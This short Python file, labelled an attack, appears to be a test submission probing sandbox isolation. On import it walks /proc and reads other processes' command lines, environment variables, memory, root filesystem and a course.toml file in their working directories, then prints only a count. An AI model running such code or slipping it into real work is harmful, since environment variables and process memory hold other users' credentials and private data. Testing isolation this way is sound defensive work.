"""attack: reads other processes' command lines, environments, memory and root through /proc"""

import os
import sys

import torch

def _snoop():
    seen = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        for part in ("cmdline", "environ", "root/etc/hostname", "cwd/course.toml", "mem"):
            try:
                with open(f"/proc/{entry}/{part}", "rb") as handle:
                    seen.append(handle.read(200))
            except OSError:
                pass
    return seen


print(len(_snoop()))


def attack():
    return None
